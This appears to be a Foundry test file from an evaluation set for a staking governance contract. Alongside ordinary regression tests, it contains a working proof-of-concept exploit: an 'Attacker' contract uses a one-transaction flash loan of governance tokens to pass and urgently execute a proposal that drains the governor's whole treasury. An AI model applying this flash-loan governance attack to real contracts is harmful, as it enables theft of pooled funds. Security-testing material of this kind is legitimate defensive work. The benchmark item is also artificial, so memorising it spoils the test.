// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./StakeGovernor.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/utils/SafeERC20.sol";
import {Funds} from "./context/Funds.sol";
import {Signed} from "./context/Signed.sol";

// assay-canary-606522b7-cae7-44c6-8002-c4b48e36d726

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public nonces;

    constructor() ERC20("Token", "T") {}

    function mint(address to, uint256 x) external {
        require(msg.sender == minter, "minter only");
        _mint(to, x);
    }

    function digest(address o, address s, uint256 x, uint256 end) public view returns (bytes32) {
        return keccak256(abi.encode(address(this), o, s, x, end, nonces[o]));
    }

    function permit(address o, address s, uint256 x, uint256 end, uint8 v, bytes32 r, bytes32 t) external {
        require(block.timestamp <= end && ecrecover(digest(o, s, x, end), v, r, t) == o, "bad permit");
        ++nonces[o];
        _approve(o, s, x);
    }
}

/// A token that can be paid in, at times, and never comes back.
contract Sieve is ERC20 {
    bool internal takes;

    constructor() ERC20("Sieve", "S") {
        _mint(msg.sender, 100e18);
    }

    function open() external {
        takes = true;
    }

    function transfer(address, uint256) public pure override returns (bool) {
        return false;
    }

    function transferFrom(address from, address to, uint256 x) public override returns (bool) {
        if (takes) _transfer(from, to, x);
        return takes;
    }
}

/// Lends the staked token for one transaction.
contract Lender {
    Token internal gov;

    constructor(Token gov_) {
        gov = gov_;
    }

    function lend(uint256 amount) external {
        uint256 before = gov.balanceOf(address(this));
        gov.transfer(msg.sender, amount);
        Attacker(msg.sender).onLoan(amount);
        require(gov.balanceOf(address(this)) >= before, "lender: not back");
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant BEN = address(0x3E57);
    address internal constant PAYEE = address(0xA);
    uint256 internal constant START = 1_650_000_000;
    uint256 internal constant KEY = 0xA11;
    bytes32 internal constant BACK = keccak256("Back(uint256 id,address member,uint256 nonce,uint256 end)");

    Token internal gov;
    Token internal cash;
    Lender internal lender;
    StakeGovernor internal g;
    Attacker internal thief;
    address internal ann;

    function setUp() public {
        vm.warp(START);
        gov = new Token();
        cash = new Token();
        lender = new Lender(gov);
        gov.mint(address(lender), 1_000_000e18);
        g = new StakeGovernor(gov);
        cash.mint(address(g), 76_000_000e6);
        ann = vm.addr(KEY);
        _stake(ann, 60_000e18);
        _stake(BEN, 39_900e18);
        thief = new Attacker(g, gov, cash, lender);
        gov.mint(address(thief), 100e18);
        thief.join();
        vm.warp(START + 1 hours);
    }

    function _stake(address who, uint256 amount) internal {
        gov.mint(who, amount);
        vm.prank(who);
        gov.approve(address(g), amount);
        vm.prank(who);
        g.stake(amount);
    }

    function _propose(address who, uint256 amount, uint32 dur) internal returns (uint256) {
        vm.prank(who);
        return g.propose(cash, PAYEE, amount, dur, "audit");
    }

    function _back(address who, uint256 id) internal {
        vm.prank(who);
        g.back(id);
    }

    function _sign(uint256 id, address m, uint256 n, uint256 end) internal returns (bytes memory) {
        bytes32 h = keccak256(abi.encode(BACK, id, m, n, end));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", g.domain(), h)));
        return abi.encodePacked(r, s, v);
    }

    function _fails(bytes memory data) internal returns (bool) {
        (bool ok, ) = address(g).call(data);
        return !ok;
    }

    function test_Regular() public {
        _propose(ann, 1_000e6, 0);
        _back(ann, 0);
        (bool any, uint256 id) = g.backedBy(ann);
        require(any && id == 0 && g.counted(0, ann) == 60_000e18, "backed");
        vm.warp(START + 2 days);
        require(_fails(abi.encodeCall(g.executeUrgent, (0))), "not two thirds");
        require(_fails(abi.encodeCall(g.execute, (0))), "not yet");
        (uint256 soon, uint256 late, uint256 end) = g.leftOf(0);
        require(soon == 0 && late == 5 days + 1 hours && end == 12 days + 1 hours, "time left");
        vm.warp(START + 8 days);
        g.execute(0);
        require(cash.balanceOf(PAYEE) == 1_000e6 && g.get(0).done, "paid");

        _propose(BEN, 2_000e6, 0);
        _back(ann, 1);
        _back(ann, 1);
        _back(BEN, 1);
        (uint256 w, uint256 whole, bool half, bool most) = g.tally(1);
        require(w == 99_900e18 && whole == 100_000e18 && half && most, "weight");
        vm.prank(BEN);
        g.retract();
        (w, , half, most) = g.tally(1);
        require(w == 60_000e18 && half && !most, "retracted");
        vm.warp(START + 9 days + 1);
        require(_fails(abi.encodeCall(g.executeUrgent, (1))), "not two thirds");
        _back(BEN, 1);
        g.executeUrgent(1);
        require(cash.balanceOf(PAYEE) == 3_000e6, "urgent");

        flow();
        sign();
        require(g.length() == 5 && g.page(4, 9).length == 1 && g.page(9, 1).length == 0, "all");
        (w, , , ) = g.tally(0);
        require(w == 0, "nobody backs it any more");
        vm.prank(BEN);
        g.unstake(39_900e18);
        require(gov.balanceOf(BEN) == 39_900e18 && g.total() == 60_150e18, "unstaked");
        require(_fails(abi.encodeCall(g.propose, (cash, BEN, 1, 0, ""))), "not a member");
    }

    function flow() internal {
        _propose(BEN, 10_000e6, 100 days);
        _propose(BEN, 10e6, 0);
        vm.prank(BEN);
        g.cancel(3);
        require(!g.isOpen(3) && g.isOpen(2), "cancelled");
        _back(ann, 2);
        vm.warp(START + 16 days + 1);
        g.execute(2);
        require(g.free(cash) == 76_000_000e6 - 13_000e6 && g.kept(cash) == 10_000e6, "kept");
        vm.warp(START + 26 days + 1);
        require(g.due(0) == 1_000e6 && g.claim(0) == 1_000e6 && cash.balanceOf(PAYEE) == 4_000e6, "a tenth");
        vm.prank(PAYEE);
        g.redirect(0, address(0xC));
        vm.warp(START + 500 days);
        require(g.claim(0) == 9_000e6 && g.due(0) == 0, "the rest");
        require(cash.balanceOf(address(0xC)) == 9_000e6 && g.kept(cash) == 0, "elsewhere");
    }

    function sign() internal {
        uint256 t = block.timestamp;
        _propose(BEN, 5e6, 0);
        g.backFor(4, ann, t, _sign(4, ann, 0, t));
        require(g.counted(4, ann) == 60_000e18 && g.nonces(ann) == 1, "signed");
        vm.prank(ann);
        g.skip();
        require(g.nonces(ann) == 2, "skipped");

        gov.mint(ann, 50e18);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, gov.digest(ann, address(g), 30e18, t));
        vm.prank(ann);
        g.stakeWithPermit(30e18, t, v, r, s);
        vm.prank(ann);
        gov.approve(address(g), 20e18);
        vm.prank(ann);
        g.stakeWithPermit(20e18, t, v, r, s);
        require(g.stakeOf(ann) == 60_050e18, "more");
        require(g.free(gov) == 0, "stakes are no funds");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesProposals() public {
        bytes4 bad = StakeGovernor.Bad.selector;
        vm.startPrank(BEN);
        vm.expectRevert(bad);
        g.propose(cash, address(0), 1, 0, "");
        vm.expectRevert(bad);
        g.propose(cash, BEN, 0, 0, "");
        vm.expectRevert(bad);
        g.propose(cash, BEN, 1, 4 * 365 days + 1, "");
        vm.stopPrank();
        vm.expectRevert(StakeGovernor.Few.selector);
        g.propose(cash, BEN, 1, 0, "");
        _stake(address(0xD), 1_000e18);
        vm.prank(address(0xD));
        vm.expectRevert(StakeGovernor.Few.selector);
        g.propose(cash, BEN, 1, 0, "");
        _propose(BEN, 1, 0);
        vm.prank(ann);
        vm.expectRevert(StakeGovernor.Denied.selector);
        g.cancel(0);
        vm.expectRevert(StakeGovernor.Closed.selector);
        g.cancel(1);
        vm.expectRevert(StakeGovernor.Closed.selector);
        g.retract();
    }

    function test_RefusesEarly() public {
        _propose(BEN, 1_000e6, 0);
        _back(ann, 0);
        _back(BEN, 0);
        vm.warp(START + 1 hours + 1 days - 1);
        vm.expectRevert(StakeGovernor.Early.selector);
        g.executeUrgent(0);
        vm.warp(START + 1 hours + 7 days - 1);
        vm.expectRevert(StakeGovernor.Early.selector);
        g.execute(0);
    }

    function test_RefusesClosed() public {
        bytes4 closed = StakeGovernor.Closed.selector;
        vm.prank(BEN);
        vm.expectRevert(closed);
        g.back(0);
        vm.expectRevert(closed);
        g.execute(0);
        vm.expectRevert(closed);
        g.executeUrgent(0);

        _propose(ann, 1_000e6, 0);
        _back(ann, 0);
        _back(BEN, 0);
        vm.warp(START + 8 days);
        g.execute(0);
        vm.expectRevert(closed);
        g.execute(0);
        vm.expectRevert(closed);
        g.executeUrgent(0);
        require(cash.balanceOf(PAYEE) == 1_000e6, "paid once");
        vm.prank(ann);
        vm.expectRevert(closed);
        g.cancel(0);

        _propose(ann, 2_000e6, 0);
        vm.warp(START + 8 days + 14 days);
        vm.prank(BEN);
        vm.expectRevert(closed);
        g.back(1);
    }

    function test_RefusesMinorities() public {
        _propose(BEN, 1_000e6, 0);
        _back(BEN, 0);
        vm.warp(START + 1 hours + 7 days);
        vm.expectRevert(StakeGovernor.Few.selector);
        g.execute(0);
        vm.expectRevert(StakeGovernor.Few.selector);
        g.executeUrgent(0);
    }

    function test_RefusesUrgentStreams() public {
        _propose(BEN, 1_000e6, 1 days);
        _back(ann, 0);
        _back(BEN, 0);
        vm.warp(START + 1 hours + 1 days);
        vm.expectRevert(StakeGovernor.Bad.selector);
        g.executeUrgent(0);
    }

    function test_RefusesUrgencyWithoutAnyVoice() public {
        StakeGovernor empty = new StakeGovernor(gov);
        cash.mint(address(empty), 5e6);
        empty.propose(cash, address(this), 5e6, 0, "mine");
        vm.warp(START + 1 hours + 1 days);
        vm.expectRevert(StakeGovernor.Few.selector);
        empty.executeUrgent(0);
    }

    function test_RefusesSignatures() public {
        _propose(BEN, 1, 0);
        _propose(BEN, 1, 0);
        uint256 end = START + 2 hours;
        bytes memory sig = _sign(0, ann, 0, end);
        vm.expectRevert(Signed.BadSig.selector);
        g.backFor(1, ann, end, sig);
        vm.expectRevert(Signed.BadSig.selector);
        g.backFor(0, BEN, end, sig);
        vm.expectRevert(Signed.BadSig.selector);
        g.backFor(0, ann, end + 1, sig);
        g.backFor(0, ann, end, sig);
        vm.expectRevert(Signed.BadSig.selector);
        g.backFor(0, ann, end, sig);
        sig = _sign(1, ann, 1, end);
        vm.warp(end + 1);
        vm.expectRevert(StakeGovernor.Closed.selector);
        g.backFor(1, ann, end, sig);
    }

    function test_RefusesStakes() public {
        vm.expectRevert(Stakes.Zero.selector);
        new StakeGovernor(IERC20(address(0)));
        vm.expectRevert(Stakes.Zero.selector);
        g.stake(0);
        vm.expectRevert(Stakes.Zero.selector);
        g.unstake(0);
        vm.prank(BEN);
        vm.expectRevert();
        g.unstake(39_900e18 + 1);
        vm.expectRevert();
        g.stake(1);
        vm.expectRevert();
        g.stakeWithPermit(1, START, 27, 0, 0);
    }

    function test_RefusesMoreThanThereIs() public {
        vm.prank(BEN);
        g.propose(gov, BEN, 1, 0, "stakes");
        vm.prank(BEN);
        g.propose(gov, BEN, 1, 1, "stakes");
        _back(ann, 0);
        vm.warp(START + 8 days);
        vm.expectRevert(Funds.Short.selector);
        g.execute(0);
        _back(ann, 1);
        vm.expectRevert(Funds.Short.selector);
        g.execute(1);
        vm.expectRevert(Funds.NoStream.selector);
        g.claim(0);
        vm.expectRevert(Funds.NoStream.selector);
        g.redirect(0, BEN);
        _propose(BEN, 10e6, 10 days);
        _back(ann, 2);
        vm.warp(START + 16 days);
        g.execute(2);
        vm.prank(BEN);
        vm.expectRevert(Funds.NoStream.selector);
        g.redirect(0, BEN);
        vm.prank(PAYEE);
        vm.expectRevert(Funds.NoStream.selector);
        g.redirect(0, address(0));
    }

    function test_RefusesTokensThatDoNotMove() public {
        Sieve sieve = new Sieve();
        StakeGovernor other = new StakeGovernor(sieve);
        bytes4 why = SafeERC20.SafeERC20FailedOperation.selector;
        vm.expectRevert();
        other.stake(10e18);
        sieve.open();
        other.stake(10e18);
        vm.expectRevert();
        other.unstake(1e18);
        sieve.transferFrom(address(this), address(other), 5);
        vm.warp(START + 2 hours);
        other.propose(sieve, BEN, 5, 0, "audit");
        other.back(0);
        vm.warp(START + 2 hours + 7 days);
        (bool ok, bytes memory r) = address(other).call(abi.encodeCall(other.execute, (0)));
        require(!ok && bytes4(r) == why, "moved");
    }

    function exploit() public {
        thief.propose();
        vm.warp(block.timestamp + 1 days);
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = cash.balanceOf(address(thief));
        exploit();
        require(cash.balanceOf(address(thief)) >= before + 76_000_000e6, "nothing gained");
        require(gov.balanceOf(address(lender)) == 1_000_000e18, "lender");
    }

    function target() public view returns (address) {
        return address(g);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(cash);
    }
}

/// Borrows a majority.
contract Attacker {
    StakeGovernor internal g;
    Token internal gov;
    Token internal cash;
    Lender internal lender;

    constructor(StakeGovernor g_, Token gov_, Token cash_, Lender lender_) {
        (g, gov, cash, lender) = (g_, gov_, cash_, lender_);
        gov_.approve(address(g_), type(uint256).max);
    }

    function join() external {
        g.stake(100e18);
    }

    function propose() external {
        g.propose(cash, address(this), cash.balanceOf(address(g)), 0, "");
    }

    function run() external {
        lender.lend(300_000e18);
    }

    function onLoan(uint256 amount) external {
        g.stake(amount);
        g.back(0);
        g.executeUrgent(0);
        g.unstake(amount);
        gov.transfer(msg.sender, amount);
    }
}
